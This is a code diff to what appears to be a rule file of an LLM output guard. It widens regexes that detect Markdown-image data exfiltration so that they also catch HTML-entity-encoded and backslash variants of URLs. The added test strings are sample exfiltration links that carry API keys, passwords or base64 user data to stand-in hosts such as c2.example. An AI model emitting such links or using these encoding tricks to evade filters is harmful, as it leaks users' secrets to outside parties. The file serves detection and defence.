@@ -14,8 +14,14 @@
 #define BYTE       "[^\\s\"'<>()\\[\\]]"
 #define ELSEWHERE  "(?:https?:)?//" BYTE "{4,400}"
 
+/*
+ * The same in Markdown, where a character of it may be a reference of HTML, and
+ * which browsers get with their slashes turned.
+ */
+#define AWAY       "(?:(?:https?:)?[/\\\\]{2}|[a-z:/]{0,7}&[#a-z0-9]{2,7};)"
+
 /* up to its bracket; one that has not come by then goes on with a tail */
-#define CLOSED(c)  "(?:https?:)?//(?:" BYTE "{4,399}+" c "|" BYTE "{400})"
+#define CLOSED(c)  AWAY "(?:" BYTE "{4,399}+" c "|" BYTE "{400})"
 
 #define LONG50     "dXNlciBlbWFpbCBhbm5hQGV4YW1wbGUgYW5kIHBhc3N3b3JkIA"
 #define LONG400    LONG50 LONG50 LONG50 LONG50 LONG50 LONG50 LONG50 LONG50
@@ -47,9 +53,14 @@ const llmg_rule_t  llmg_rules_exfil[] = {
             "![a](<//c2.example/1.png?d=cGFzc3dvcmQgaHVudGVyMg>)",
             "![x](//a.example/p?q=the%20key%20is%2012345#//b.example/)",
             "![x](https://a.example/U1NOIG9uIGZpbGU.gif)",
+            "![x](https&#58;//a.example/p?q=the%20api%20key%20is%2012345)",
+            "![x](https:&#x2f;&sol;a.example/?the%20api%20key%20is%2012345)",
+            "![x](&#104;ttps://a.example/p?q=the%20api%20key%20is%2012345)",
             "![x](https://a.example/p?q=" LONG400),
         .no_match = llmg_list(
             "![logo](/static/logo.png)",
+            "![logo](img&amp;more/a-picture-of-the-whole-team-2024.png)",
+            "![logo](https://www.example.com/a.png?a=1&amp;width=640.png)",
             "![logo](https://www.example.com/img/logo.png)",
             "![c](https://thelongestcompanynameofallthecity.example/a.png)",
             "![d](https://www.example.com/img/documentationoverview.png)",
@@ -64,7 +75,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
         .confidence = 75,
         .caseless = 1,
         .max = 620,
-        .literals = llmg_list("](http", "](//", "](<http", "](<//"),
+        .literals = llmg_list("](http", "](//", "](<http", "](<//", "](&#"),
         .pattern = "(?<!\\!\\[)\\]\\(<?" CLOSED(">?\\s{0,4}\\)"),
         .tail = BYTE,
         .stop = ')',
